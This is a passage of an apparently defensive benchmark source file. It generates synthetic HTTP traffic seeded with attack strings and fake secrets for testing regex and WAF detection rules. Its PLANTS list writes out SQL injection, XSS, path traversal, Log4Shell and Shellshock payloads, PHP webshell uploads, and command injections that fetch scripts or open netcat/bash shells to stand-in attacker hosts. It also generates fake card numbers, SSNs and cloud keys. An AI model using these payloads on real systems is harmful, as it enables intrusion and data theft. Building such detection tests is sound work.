/**
 * The inputs of the regex benchmark, generated from a seed (no downloads, no data files):
 *
 * - `httpCorpus(bytes)`: HTTP/1.1 traffic as a proxy sees it, request after response: varied methods, URLs with
 *   query strings, browser and client headers (cookies, user agents, accept, bearer tokens), JSON, form and HTML
 *   bodies, minified scripts, chunked bodies, and binary bodies (images, gzip) that are random bytes on the wire
 *   (about 40% of the bytes: compressed and image payloads dominate real proxy traffic by volume).
 *   About once per 30 KB (the first exchange 8 to 48 KB after the previous one) an exchange carries something
 *   the benchmark's sets look for (`PLANTS`: an injection attempt, a card number, a cloud key, a blocklisted
 *   domain...). Ordinary traffic also
 *   matches some rules by itself, as it does in production: `<script` and `onload=` in HTML, `document.cookie`
 *   in analytics scripts, e-mail addresses in profile APIs, "select a size from" in shop pages.
 * - `randomCorpus(bytes)`: uniformly random bytes (the worst case for a literal prefilter: no structure).
 *
 * Both are exact in length and identical for the same seed on every machine.
 */
import { createHash } from 'node:crypto';
import { B64URL, DIGITS, HEX, ALNUM, UPPER, Rng } from './prng.js';
import { LITERALS_1000, literalText, type BenchPattern } from './sets.js';

/** The benchmark's default corpus size. */
export const DEFAULT_CORPUS_BYTES = 16 * 1024 * 1024;
/** One TCP segment's payload on a 1500-byte-MTU Ethernet path: the unit a per-packet stream scan sees. */
export const SEGMENT_CHUNK = 1460;
/** What a reassembly layer hands over in bulk (one read of a socket buffer). */
export const LARGE_CHUNK = 64 * 1024;

export const HTTP_SEED = 0x6e657473;
export const RANDOM_SEED = 0x72616e64;

/** Uniformly random bytes. */
export function randomCorpus(bytes: number, seed = RANDOM_SEED): Uint8Array {
  const out = new Uint8Array(bytes);
  new Rng(seed).fill(out);
  return out;
}

/** Views (no copies) of consecutive `size`-byte pieces of `data`; the last may be shorter. */
export function chunk(data: Uint8Array, size: number): Uint8Array[] {
  if (!(size > 0)) throw new RangeError(`chunk size must be positive, got ${size}`);
  const out: Uint8Array[] = [];
  for (let i = 0; i < data.length; i += size) out.push(data.subarray(i, Math.min(i + size, data.length)));
  return out;
}

/** SHA-256 of a corpus, hex: names cached files and proves two generations equal. */
export function corpusHash(data: Uint8Array): string {
  return createHash('sha256').update(data).digest('hex');
}

// ---------------------------------------------------------------------------------------------------------------
// Planted findings. Each kind says which rules (pattern names in sets.ts) its examples must trigger, where in a
// message it goes, and how to make one. `make` varies case, spacing and values as real attempts do.

export type Placement =
  /** A query parameter value: no spaces, as scanners send raw. */
  | 'query'
  /** The request path itself. */
  | 'path'
  /** The Host header (and a Referer to it). */
  | 'host'
  /** A request header value (User-Agent, X-Api-Version, Authorization...). */
  | 'header'
  /** A string value in a JSON request body. */
  | 'request-json'
  /** A request body sent as text (an upload). */
  | 'request-text'
  /** A string in a JSON response body (a leak). */
  | 'response-json'
  /** A response body sent as text (a file download, a config dump). */
  | 'response-text';

export interface PlantKind {
  /** What it is (`sqli.union`, `dlp.card`...). */
  name: string;
  /** Names of the patterns every example must match (for literal plants: the literal's kind). */
  expect: readonly string[];
  place: Placement;
  /** The header that carries it, for `header` placement. */
  header?: string;
  make(rng: Rng): string;
}

/** Random case changes, as attackers do to slip past case-sensitive filters. */
function mixCase(rng: Rng, s: string): string {
  if (rng.chance(0.5)) return s;
  if (rng.chance(0.4)) return s.toUpperCase();
  let out = '';
  for (const ch of s) out += rng.chance(0.5) ? ch.toUpperCase() : ch.toLowerCase();
  return out;
}

/** Spacing inside a JSON string value: spaces only (a tab or newline there goes out escaped, as `\t`, `\n`). */
function spaces(rng: Rng): string {
  return rng.weighted([
    [6, ' '],
    [1, '  '],
  ]);
}

/** Whitespace in a raw body (XML, text): what attackers use to slip past `' '`-only filters. */
function whitespace(rng: Rng): string {
  return rng.weighted([
    [4, ' '],
    [1, '  '],
    [1, '\t'],
    [1, '\n'],
    [1, '\r\n '],
  ]);
}

function luhnComplete(prefix: string, length: number, rng: Rng): string {
  let body = prefix;
  while (body.length < length - 1) body += rng.chars(DIGITS, 1);
  let sum = 0;
  for (let i = 0; i < body.length; i++) {
    let d = body.charCodeAt(body.length - 1 - i) - 48;
    if (i % 2 === 0) {
      d *= 2;
      if (d > 9) d -= 9;
    }
    sum += d;
  }
  return body + String((10 - (sum % 10)) % 10);
}

/** Splits a card number into groups joined by the same separator (space, dash, or none), as forms show them. */
function groups(rng: Rng, digits: string, sizes: readonly number[]): string {
  const sep = rng.pick(['', ' ', '-']);
  const parts: string[] = [];
  let i = 0;
  for (const n of sizes) {
    parts.push(digits.slice(i, i + n));
    i += n;
  }
  return parts.join(sep);
}

function b64url(s: string): string {
  return Buffer.from(s, 'latin1').toString('base64url');
}

function jwt(rng: Rng): string {
  const header = b64url(JSON.stringify({ alg: rng.pick(['HS256', 'RS256', 'ES256']), typ: 'JWT' }));
  const payload = b64url(
    JSON.stringify({
      sub: String(rng.between(1000, 999999)),
      name: rng.pick(FIRST_NAMES),
      iat: 1_700_000_000 + rng.below(5e7),
      exp: 1_760_000_000 + rng.below(5e7),
      scope: rng.pick(['read', 'read write', 'admin']),
    }),
  );
  return `${header}.${payload}.${rng.chars(B64URL, rng.pick([43, 43, 86, 342]))}`;
}

const ATTACK_HOSTS = ['45.83.64.1:1389', '198.51.100.23', 'x.oast.fun', 'c2.attacker.example', '203.0.113.9:1099'];

function literalsOf(name: string): readonly BenchPattern[] {
  return LITERALS_1000.filter((p) => p.name === name);
}
const INTEL_DOMAINS = literalsOf('intel.domain');
const INTEL_PATHS = literalsOf('intel.url_path');
const INTEL_UAS = literalsOf('intel.user_agent');
const INTEL_COMMANDS = literalsOf('intel.command_line');
const INTEL_WEBSHELLS = literalsOf('intel.webshell');

/** A blocklisted literal as it appears on the wire: in another case when the indicator is caseless. */
function intel(rng: Rng, list: readonly BenchPattern[]): string {
  const p = rng.pick(list);
  const text = literalText(p);
  return p.flags.includes('i') && rng.chance(0.2) ? mixCase(rng, text) : text;
}

export const PLANTS: readonly PlantKind[] = [
  // SQL injection
  {
    name: 'sqli.union',
    expect: ['sqli.union_select', 'sqli.select_from'],
    place: 'request-json',
    make: (r) =>
      `${r.between(1, 99)}'${spaces(r)}${mixCase(r, 'union')}${r.chance(0.5) ? `${spaces(r)}${mixCase(r, 'all')}` : ''}${spaces(r)}${mixCase(r, 'select')} ${r.pick(['NULL,NULL', 'username,password', 'table_name,2,3'])} ${mixCase(r, 'from')} ${r.pick(['users', 'admin', 'accounts'])}-- -`,
  },
  {
    name: 'sqli.union_xml',
    expect: ['sqli.union_select'],
    place: 'request-text',
    make: (r) =>
      `<?xml version="1.0"?><search><term>${r.between(1, 99)}'${whitespace(r)}${mixCase(r, 'union')}${r.chance(0.5) ? `${whitespace(r)}${mixCase(r, 'all')}` : ''}${whitespace(r)}${mixCase(r, 'select')}${whitespace(r)}${r.pick(['NULL', '@@version', 'name'])}--</term></search>\n`,
  },
  {
    name: 'sqli.subselect',
    expect: ['sqli.select_from'],
    place: 'request-json',
    make: (r) =>
      `(${mixCase(r, 'select')} ${r.pick(['password', 'pass_hash', 'CONCAT(user,0x3a,pass)'])} ${mixCase(r, 'from')} ${r.pick(['admin_users', 'wp_users', 'mysql.user'])} LIMIT 1)`,
  },
  {
    name: 'sqli.tautology',
    expect: ['sqli.or_tautology'],
    place: 'request-json',
    make: (r) =>
      `${r.pick(['admin', '1', 'x'])}'${spaces(r)}${mixCase(r, 'or')}${spaces(r)}${r.between(1, 9)}${r.pick(['=', ' = '])}${r.between(1, 9)}-- `,
  },
  {
    name: 'sqli.quoted_tautology',
    expect: ['sqli.quoted_tautology'],
    place: 'request-json',
    make: (r) => {
      const c = r.pick(['a', 'x', '1']);
      return `${r.pick(['admin', ''])}'${spaces(r)}${mixCase(r, r.pick(['or', 'and']))} '${c}'='${c}`;
    },
  },
  {
    name: 'sqli.information_schema',
    expect: ['sqli.information_schema', 'sqli.select_from'],
    place: 'request-json',
    make: (r) =>
      `1 AND (${mixCase(r, 'select')} COUNT(*) ${mixCase(r, 'from')} ${mixCase(r, 'information_schema')}.${r.pick(['tables', 'columns', 'schemata'])})>0`,
  },
  {
    name: 'sqli.sleep',
    expect: ['sqli.sleep'],
    place: 'request-json',
    make: (r) => `1' AND ${r.pick(['', 'pg_'])}${mixCase(r, 'sleep')}${r.pick(['', ' '])}(${r.between(3, 15)})-- `,
  },
  {
    name: 'sqli.xp_cmdshell',
    expect: ['sqli.xp_cmdshell', 'sqli.exec_proc'],
    place: 'request-json',
    make: (r) => `'; ${mixCase(r, 'exec')} ${mixCase(r, 'xp_cmdshell')} '${r.pick(['whoami', 'dir c:\\', 'net user'])}'--`,
  },
  {
    name: 'sqli.exec_proc',
    expect: ['sqli.exec_proc'],
    place: 'request-json',
    make: (r) =>
      `1; ${mixCase(r, 'exec')}${r.pick([' ', '+', '  '])}${r.pick(['sp_configure', 'sp_executesql', 'sp_password', 'xp_dirtree'])} 'show advanced options',1`,
  },
  // Cross-site scripting
  {
    name: 'xss.script',
    expect: ['xss.script_tag', 'xss.document_cookie'],
    place: 'request-json',
    make: (r) =>
      `<${mixCase(r, 'script')}>${r.pick(['alert', 'fetch', 'new Image().src='])}(${mixCase(r, 'document.cookie')})</script>`,
  },
  {
    name: 'xss.javascript_uri',
    expect: ['xss.javascript_uri'],
    place: 'query',
    make: (r) => `${mixCase(r, 'javascript:')}alert(${r.between(1, 9)})`,
  },
  {
    name: 'xss.event_handler',
    expect: ['xss.event_handler'],
    place: 'request-json',
    make: (r) =>
      `<${r.pick(['img src=x', 'body', 'svg', 'div'])} ${mixCase(r, r.pick(['onerror', 'onload', 'onmouseover']))}${r.pick(['=', ' = '])}alert(${r.between(1, 9)})>`,
  },
  {
    name: 'xss.iframe',
    expect: ['xss.iframe_src'],
    place: 'request-json',
    make: (r) =>
      `<${mixCase(r, 'iframe')} width=0 height=0 style=display:none ${mixCase(r, 'src')}=http://${r.pick(ATTACK_HOSTS)}/x>`,
  },
  // Path traversal
  {
    name: 'lfi.traversal',
    expect: ['lfi.dot_dot_slash', 'lfi.etc_passwd'],
    place: 'query',
    make: (r) => `${'../'.repeat(r.between(2, 8))}etc/passwd`,
  },
  {
    name: 'lfi.encoded',
    expect: ['lfi.encoded_dot_dot_slash'],
    place: 'path',
    make: (r) =>
      `/static/${mixCase(r, '%2e%2e%2f').repeat(r.between(2, 6))}${r.pick(['etc%2fshadow', 'windows%2fwin.ini', 'proc%2fself%2fenviron'])}`,
  },
  // Command injection
  {
    name: 'rce.chained_command',
    expect: ['rce.shell_command'],
    place: 'request-json',
    make: (r) =>
      `127.0.0.1${r.pick([';', '; ', ';  '])}${r.pick(['cat /etc/shadow', `wget http://${r.pick(ATTACK_HOSTS)}/x.sh`, `curl -s http://${r.pick(ATTACK_HOSTS)}/i`, 'bash -i', `nc ${r.pick(ATTACK_HOSTS)} 4444`])}`,
  },
  {
    name: 'rce.cmd_exe',
    expect: ['rce.cmd_exe'],
    place: 'request-json',
    make: (r) => `..\\..\\windows\\system32\\${mixCase(r, 'cmd.exe')} /c ${r.pick(['dir', 'whoami', 'type boot.ini'])}`,
  },
  {
    name: 'rce.shellshock',
    expect: ['rce.bin_sh'],
    place: 'header',
    header: 'User-Agent',
    make: (r) => `() { :; }; ${mixCase(r, '/bin/sh')} -c '${r.pick(['id', 'uname -a', 'echo vulnerable'])}'`,
  },
  {
    name: 'rce.log4shell',
    expect: ['rce.log4shell'],
    place: 'header',
    header: 'X-Api-Version',
    make: (r) =>
      `\${${mixCase(r, 'jndi')}:${mixCase(r, r.pick(['ldap', 'rmi', 'dns']))}://${r.pick(ATTACK_HOSTS)}/${r.pick(['Exploit', 'a', 'Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZAo='])}}`,
  },
  // PHP and code injection
  {
    name: 'php.upload',
    expect: ['php.open_tag'],
    place: 'request-text',
    make: (r) =>
      `GIF89a\n<?${mixCase(r, 'php')} ${r.pick(['system($_GET["c"]);', 'echo shell_exec($_POST["x"]);', 'passthru($_REQUEST["cmd"]);'])} ?>\n`,
  },
  {
    name: 'php.eval_base64',
    expect: ['php.eval', 'php.base64_decode'],
    place: 'request-json',
    make: (r) =>
      `${mixCase(r, 'eval')}(${mixCase(r, 'base64_decode')}('${Buffer.from(r.pick(['echo "ok";', 'system("id");', 'phpinfo();'])).toString('base64')}'))`,
  },
  // Data leaks
  {
    name: 'dlp.visa',
    expect: ['dlp.visa'],
    place: 'response-json',
    make: (r) => groups(r, luhnComplete('4', 16, r), [4, 4, 4, 4]),
  },
  {
    name: 'dlp.mastercard',
    expect: ['dlp.mastercard'],
    place: 'response-json',
    make: (r) => groups(r, luhnComplete(r.pick(['51', '52', '53', '54', '55', '2221', '2720', '23']), 16, r), [4, 4, 4, 4]),
  },
  {
    name: 'dlp.amex',
    expect: ['dlp.amex'],
    place: 'response-json',
    make: (r) => groups(r, luhnComplete(r.pick(['34', '37']), 15, r), [4, 6, 5]),
  },
  {
    name: 'dlp.ssn',
    expect: ['dlp.us_ssn'],
    place: 'response-json',
    make: (r) =>
      `${String(r.between(1, 899)).padStart(3, '0')}-${String(r.between(1, 99)).padStart(2, '0')}-${String(r.between(1, 9999)).padStart(4, '0')}`,
  },
  {
    name: 'dlp.email',
    expect: ['dlp.email'],
    place: 'response-json',
    make: (r) =>
      `${r.pick(FIRST_NAMES).toLowerCase()}${r.pick(['.', '_', ''])}${r.pick(LAST_NAMES).toLowerCase()}${r.chance(0.3) ? r.between(1, 99) : ''}@${r.pick(MAIL_DOMAINS)}`,
  },
  {
    name: 'dlp.aws_key_id',
    expect: ['dlp.aws_access_key_id'],
    place: 'response-text',
    make: (r) => `aws_access_key_id = AKIA${r.chars(UPPER + DIGITS, 16)}\n`,
  },
  {
    name: 'dlp.aws_secret',
    expect: ['dlp.aws_secret_assignment'],
    place: 'response-text',
    make: (r) =>
      `${r.pick(['aws_secret_access_key = ', 'AWS_SECRET_ACCESS_KEY=', '"awsSecretKey": "', 'aws_secret_key: '])}${r.chars(`${ALNUM}/+`, 40)}${r.pick(['\n', '"', ' '])}`,
  },
  {
    name: 'dlp.github_token',
    expect: ['dlp.github_token'],
    place: 'response-text',
    make: (r) => `GITHUB_TOKEN=gh${r.pick(['p', 'o', 'u', 's', 'r'])}_${r.chars(ALNUM, 36)}\n`,
  },
  {
    name: 'dlp.slack_token',
    expect: ['dlp.slack_token'],
    place: 'response-json',
    make: (r) => `xox${r.pick(['b', 'p', 'a'])}-${r.chars(DIGITS, 11)}-${r.chars(DIGITS, 13)}-${r.chars(ALNUM, 24)}`,
  },
  {
    name: 'dlp.private_key',
    expect: ['dlp.private_key'],
    place: 'response-text',
    make: (r) => {
      const kind = r.pick(['RSA ', 'EC ', 'OPENSSH ', '']);
      let body = '';
      for (let i = r.between(4, 12); i > 0; i--) body += `${Buffer.from(r.chars(ALNUM, 48), 'latin1').toString('base64')}\n`;
      return `-----BEGIN ${kind}PRIVATE KEY-----\n${body}-----END ${kind}PRIVATE KEY-----\n`;
    },
  },
  { name: 'dlp.jwt', expect: ['dlp.jwt'], place: 'header', header: 'Authorization', make: (r) => `Bearer ${jwt(r)}` },
  {
    name: 'dlp.iban',
    expect: ['dlp.iban'],
    place: 'response-json',
    make: (r) => {
      const country = r.pick(['DE', 'GB', 'FR', 'NL', 'ES']);
      const bban =
        country === 'GB'
          ? `${r.pick(['WEST', 'BARC', 'NWBK'])}${r.chars(DIGITS, 14)}`
          : r.chars(DIGITS, country === 'DE' ? 18 : 16);
      const iban = `${country}${r.chars(DIGITS, 2)}${bban}`;
      return r.chance(0.5) ? iban : iban.replace(/(.{4})(?=.)/g, '$1 ');
    },
  },
  // Threat intelligence
  { name: 'intel.domain', expect: ['intel.domain'], place: 'host', make: (r) => intel(r, INTEL_DOMAINS) },
  { name: 'intel.url_path', expect: ['intel.url_path'], place: 'path', make: (r) => intel(r, INTEL_PATHS) },
  {
    name: 'intel.user_agent',
    expect: ['intel.user_agent'],
    place: 'header',
    header: 'User-Agent',
    make: (r) => intel(r, INTEL_UAS),
  },
  { name: 'intel.command_line', expect: ['intel.command_line'], place: 'request-json', make: (r) => intel(r, INTEL_COMMANDS) },
  {
    name: 'intel.webshell',
    expect: ['intel.webshell'],
    place: 'path',
    make: (r) => `/${r.pick(['uploads', 'images', 'wp-content/uploads'])}/${intel(r, INTEL_WEBSHELLS)}`,
  },
];

// ---------------------------------------------------------------------------------------------------------------
// Ordinary traffic.

const FIRST_NAMES = [
  'James',
  'Mary',
  'Robert',
  'Patricia',
  'John',
  'Jennifer',
  'Michael',
  'Linda',
  'David',
  'Elizabeth',
  'Wei',
  'Priya',
  'Carlos',
  'Fatima',
  'Yuki',
  'Olga',
  'Ahmed',
  'Sofia',
  'Lars',
  'Ana',
];
const LAST_NAMES = [
  'Smith',
  'Johnson',
  'Williams',
  'Brown',
  'Garcia',
  'Miller',
  'Davis',
  'Martinez',
  'Lopez',
  'Wilson',
  'Chen',
  'Patel',
  'Kowalski',
  'Nakamura',
  'Ivanova',
  'Haddad',
  'Rossi',
  'Jensen',
  'Silva',
  'Dubois',
];
const MAIL_DOMAINS = [
  'gmail.com',
  'outlook.com',
  'yahoo.co.uk',
  'example.com',
  'acme-corp.io',
  'mail.example-bank.com',
  'proton.me',
];

const HOSTS = [
  'www.example-shop.com',
  'api.example-shop.com',
  'cdn.example-shop.com',
  'accounts.example-bank.com',
  'app.acme-saas.io',
  'api.acme-saas.io',
  'static.newsportal.net',
  'www.newsportal.net',
  'telemetry.vendor-analytics.com',
  'login.corp.example',
];
const BROWSER_UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.97',
];
const CLIENT_UAS = [
  'curl/8.5.0',
  'okhttp/4.12.0',
  'python-requests/2.31.0',
  'Go-http-client/2.0',
  'axios/1.6.8',
  'Apache-HttpClient/4.5.14 (Java/17.0.10)',
  'Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)',
];
const ACCEPTS = [
  'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
  'application/json',
  'application/json, text/plain, */*',
  '*/*',
  'image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8',
  'text/css,*/*;q=0.1',
];
const LANGS = [
  'en-US,en;q=0.9',
  'en-GB,en;q=0.8',
  'de-DE,de;q=0.9,en;q=0.6',
  'fr-FR,fr;q=0.9',
  'ja,en-US;q=0.7,en;q=0.3',
  'es-ES,es;q=0.9',
];
const RESOURCES = ['users', 'orders', 'products', 'carts', 'sessions', 'invoices', 'items', 'reviews', 'notifications', 'events'];
const WORDS =
  'the of and to in is you that it he was for on are as with his they at be this have from or one had by word but not what all were we when your can said there use an each which she do how their if will up other about out many then them these so some her would make like him into time has look two more write go see number no way could people my than first water been call who oil its now find long down day did get come made may part new free shipping returns order today size color quality fabric cotton blend soft comfortable classic fit machine washable imported customer reviews rating stars delivery available stock sale price discount members exclusive collection season summer winter jacket shirt shoes bag watch phone case cover charger cable adapter wireless bluetooth battery screen display'.split(
    ' ',
  );
const PRODUCTS = [
  'Merino Wool Sweater',
  'Trail Running Shoe',
  'Leather Messenger Bag',
  'Noise Cancelling Headphones',
  'Ceramic Pour-Over Set',
  'Linen Shirt',
  'Smart Watch Band',
  'USB-C Charging Cable',
  'Waterproof Jacket',
  'Cast Iron Skillet',
];

class Writer {
  readonly out: Buffer;
  pos = 0;
  /** Bytes of binary (random) bodies written, for the corpus statistics. */
  binary = 0;

  constructor(bytes: number) {
    this.out = Buffer.alloc(bytes);
  }

  get full(): boolean {
    return this.pos >= this.out.length;
  }

  text(s: string): void {
    if (this.pos < this.out.length) this.pos += this.out.write(s, this.pos, 'latin1');
    else this.pos += s.length;
  }

  randomBytes(rng: Rng, n: number): void {
    this.binary += n;
    const end = Math.min(this.pos + n, this.out.length);
    if (end > this.pos) rng.fill(this.out.subarray(this.pos, end));
    this.pos += n;
  }
}

function words(rng: Rng, n: number): string {
  const w: string[] = [];
  for (let i = 0; i < n; i++) w.push(rng.pick(WORDS));
  return w.join(' ');
}

function pathAndQuery(rng: Rng): { path: string; kind: 'api' | 'static' | 'page' | 'image' | 'collect' } {
  switch (
    rng.weighted<number>([
      [30, 0],
      [25, 1],
      [25, 2],
      [10, 3],
      [10, 4],
    ])
  ) {
    case 0: {
      const res = rng.pick(RESOURCES);
      const q = rng.chance(0.5)
        ? `?page=${rng.between(1, 40)}&limit=${rng.pick([10, 20, 50, 100])}&sort=${rng.pick(['-created_at', 'name', 'price', '-updated_at'])}`
        : '';
      return {
        path: `/api/v${rng.between(1, 3)}/${res}${rng.chance(0.6) ? `/${rng.between(1, 9_999_999)}` : ''}${q}`,
        kind: 'api',
      };
    }
    case 1:
      return {
        path: rng.pick([
          `/static/js/${rng.pick(['main', 'vendor', 'runtime', `chunk-${rng.chars(HEX, 4)}`])}.${rng.chars(HEX, 8)}.js`,
          `/assets/css/app.${rng.chars(HEX, 8)}.css`,
          `/fonts/inter-${rng.pick(['regular', 'bold'])}.woff2`,
        ]),
        kind: 'static',
      };
    case 2: {
      const p = rng.pick([
        '/',
        `/products/${rng.pick(PRODUCTS).toLowerCase().replace(/ /g, '-')}-${rng.between(100, 9999)}`,
        `/search?q=${words(rng, rng.between(1, 3)).replace(/ /g, '+')}&category=${rng.pick(['men', 'women', 'home', 'tech'])}`,
        '/account/orders',
        '/cart',
        '/checkout/shipping',
        `/blog/${rng.between(2019, 2025)}/${String(rng.between(1, 12)).padStart(2, '0')}/${words(rng, 4).replace(/ /g, '-')}`,
      ]);
      return { path: p, kind: 'page' };
    }
    case 3:
      return {
        path: `/images/products/${rng.between(1000, 99999)}-${rng.pick([320, 640, 1280])}x${rng.pick([320, 480, 960])}.${rng.pick(['jpg', 'webp', 'png'])}`,
        kind: 'image',
      };
    default:
      return {
        path: `/collect?v=2&tid=G-${rng.chars(UPPER + DIGITS, 10)}&cid=${rng.between(1e8, 2e9)}.${rng.between(1.6e9, 1.75e9)}&en=${rng.pick(['page_view', 'scroll', 'click', 'view_item'])}&dl=https%3A%2F%2Fwww.example-shop.com%2Fproducts%2F${rng.between(100, 9999)}&sr=1920x1080`,
        kind: 'collect',
      };
  }
}

function cookie(rng: Rng): string {
  const parts = [`session=${rng.chars(HEX, 32)}`, `_ga=GA1.2.${rng.between(1e8, 2e9)}.${rng.between(1.6e9, 1.75e9)}`];
  if (rng.chance(0.6)) parts.push(`_gid=GA1.2.${rng.between(1e8, 2e9)}.${rng.between(1.6e9, 1.75e9)}`);
  if (rng.chance(0.5)) parts.push(`csrftoken=${rng.chars(ALNUM, 32)}`);
  if (rng.chance(0.3)) parts.push(`theme=${rng.pick(['dark', 'light'])}; lang=${rng.pick(['en', 'de', 'fr'])}`);
  if (rng.chance(0.2))
    parts.push(
      `cart_id=${rng.chars(HEX, 8)}-${rng.chars(HEX, 4)}-${rng.chars(HEX, 4)}-${rng.chars(HEX, 4)}-${rng.chars(HEX, 12)}`,
    );
  return parts.join('; ');
}

function jsonString(s: string): string {
  return JSON.stringify(s);
}

function requestJson(rng: Rng, planted: string | null): string {
  const fields: string[] = [];
  switch (rng.below(4)) {
    case 0:
      fields.push(
        `"productId":${rng.between(100, 99999)}`,
        `"quantity":${rng.between(1, 5)}`,
        `"options":{"size":"${rng.pick(['S', 'M', 'L', 'XL'])}","color":"${rng.pick(['navy', 'black', 'olive', 'sand'])}"}`,
      );
      break;
    case 1:
      fields.push(
        `"query":${jsonString(words(rng, rng.between(1, 4)))}`,
        `"filters":{"inStock":${rng.chance(0.5)},"maxPrice":${rng.between(10, 500)}}`,
        `"page":${rng.between(1, 9)}`,
      );
      break;
    case 2:
      fields.push(
        `"event":"${rng.pick(['page_view', 'add_to_cart', 'purchase', 'login'])}"`,
        `"ts":${1_700_000_000_000 + rng.below(1e10)}`,
        `"session":"${rng.chars(HEX, 16)}"`,
        `"props":{"path":"/products/${rng.between(100, 9999)}","referrer":"https://www.google.com/"}`,
      );
      break;
    default:
      fields.push(
        `"comment":${jsonString(words(rng, rng.between(5, 30)))}`,
        `"rating":${rng.between(1, 5)}`,
        `"author":${jsonString(rng.pick(FIRST_NAMES))}`,
      );
  }
  if (planted !== null)
    fields.splice(
      rng.below(fields.length + 1),
      0,
      `"${rng.pick(['q', 'search', 'comment', 'username', 'cmd', 'host', 'filter'])}":${jsonString(planted)}`,
    );
  return `{${fields.join(',')}}`;
}

function formBody(rng: Rng): string {
  return rng.pick([
    `username=${rng.pick(FIRST_NAMES).toLowerCase()}${rng.between(1, 999)}&password=${rng.chars(ALNUM, rng.between(8, 16))}&remember=on`,
    `email=${rng.pick(FIRST_NAMES).toLowerCase()}%40${rng.pick(MAIL_DOMAINS)}&subscribe=1`,
    `q=${words(rng, 3).replace(/ /g, '+')}&sort=relevance&page=${rng.between(1, 9)}`,
    `csrfmiddlewaretoken=${rng.chars(ALNUM, 64)}&address=${rng.between(1, 999)}+${rng.pick(LAST_NAMES)}+Street&zip=${rng.chars(DIGITS, 5)}`,
  ]);
}

function responseJson(rng: Rng, planted: string | null): string {
  const items: string[] = [];
  const kind = rng.below(4);
  const n = kind === 3 ? 1 : rng.between(1, 25);
  for (let i = 0; i < n; i++) {
    if (kind === 0) {
      items.push(
        `{"id":${rng.between(1, 99999)},"name":${jsonString(rng.pick(PRODUCTS))},"price":${rng.between(5, 400)}.${rng.chars(DIGITS, 2)},"currency":"USD","inStock":${rng.chance(0.8)},"rating":${(rng.float() * 4 + 1).toFixed(1)},"image":"/images/products/${rng.between(1000, 99999)}-640x480.webp"}`,
      );
    } else if (kind === 1) {
      items.push(
        `{"id":"${rng.chars(HEX, 24)}","status":"${rng.pick(['shipped', 'pending', 'delivered', 'cancelled'])}","total":${rng.between(5, 900)}.${rng.chars(DIGITS, 2)},"createdAt":"2024-${String(rng.between(1, 12)).padStart(2, '0')}-${String(rng.between(1, 28)).padStart(2, '0')}T${String(rng.between(0, 23)).padStart(2, '0')}:${String(rng.between(0, 59)).padStart(2, '0')}:00Z","items":${rng.between(1, 6)}}`,
      );
    } else if (kind === 2) {
      items.push(
        `{"id":${rng.between(1, 99999)},"author":${jsonString(rng.pick(FIRST_NAMES))},"body":${jsonString(words(rng, rng.between(8, 40)))},"likes":${rng.below(500)}}`,
      );
    } else {
      // A profile: real APIs return the user's own e-mail, so a DLP e-mail rule fires on ordinary traffic.
      const first = rng.pick(FIRST_NAMES);
      const last = rng.pick(LAST_NAMES);
      items.push(
        `{"id":${rng.between(1, 999999)},"firstName":"${first}","lastName":"${last}","email":"${first.toLowerCase()}.${last.toLowerCase()}@${rng.pick(MAIL_DOMAINS)}","plan":"${rng.pick(['free', 'pro', 'team'])}","mfa":${rng.chance(0.5)}}`,
      );
    }
  }
  if (planted !== null)
    items.splice(
      rng.below(items.length + 1),
      0,
      `{"id":${rng.between(1, 99999)},"${rng.pick(['card', 'note', 'value', 'token', 'ssn', 'account'])}":${jsonString(planted)}}`,
    );
  return `{"data":[${items.join(',')}],"total":${items.length},"next":${rng.chance(0.5) ? `"/api/v1/items?cursor=${rng.chars(B64URL, 24)}"` : 'null'}}`;
}

function html(rng: Rng): string {
  const title = rng.pick(PRODUCTS);
  const parts = [
    `<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<meta name="viewport" content="width=device-width, initial-scale=1">\n<title>${title} | Example Shop</title>\n`,
    `<link rel="stylesheet" href="/assets/css/app.${rng.chars(HEX, 8)}.css">\n`,
    `<script async src="https://www.googletagmanager.com/gtag/js?id=G-${rng.chars(UPPER + DIGITS, 10)}"></script>\n`,
    `<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());gtag('config','G-${rng.chars(UPPER + DIGITS, 10)}');</script>\n`,
    `</head>\n<body class="product-page"${rng.chance(0.3) ? ' onload="init()"' : ''}>\n<header><nav><a href="/">Home</a> <a href="/products">Shop</a> <a href="/account/orders">Orders</a> <a href="/cart">Cart (${rng.below(5)})</a></nav></header>\n<main>\n<h1>${title}</h1>\n`,
  ];
  for (let i = rng.between(2, 12); i > 0; i--) {
    parts.push(
      rng.pick([
        `<p>${words(rng, rng.between(20, 80))}.</p>\n`,
        `<div class="card"><img src="/images/products/${rng.between(1000, 99999)}-320x320.webp" alt="${rng.pick(PRODUCTS)}" loading="lazy"><span class="price">$${rng.between(5, 400)}.99</span></div>\n`,
        `<ul><li>${words(rng, 6)}</li><li>${words(rng, 5)}</li><li>${words(rng, 7)}</li></ul>\n`,
        `<button type="button" class="btn btn-primary" data-sku="${rng.chars(UPPER + DIGITS, 8)}">Add to cart</button>\n`,
      ]),
    );
  }
  // Shop copy that a naive "select ... from" SQL rule flags: a real false positive of WAF rule sets.
  if (rng.chance(0.3))
    parts.push(
      `<label for="size">Select a size from the chart below</label>\n<select id="size" name="size"><option>S</option><option>M</option><option>L</option></select>\n`,
    );
  parts.push(
